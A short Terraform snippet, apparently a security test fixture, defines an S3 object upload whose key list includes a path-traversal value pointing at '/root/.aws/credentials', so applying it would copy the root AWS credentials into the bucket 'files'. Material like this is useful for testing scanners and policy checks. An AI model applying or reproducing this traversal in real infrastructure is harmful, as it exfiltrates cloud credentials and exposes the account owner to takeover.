resource "aws_s3_object" "file" {
  for_each = toset(["a", "../../../../../../root/.aws/credentials"])
  bucket   = "files"
  key      = each.key
  source   = "${path.module}/${each.value}"
}
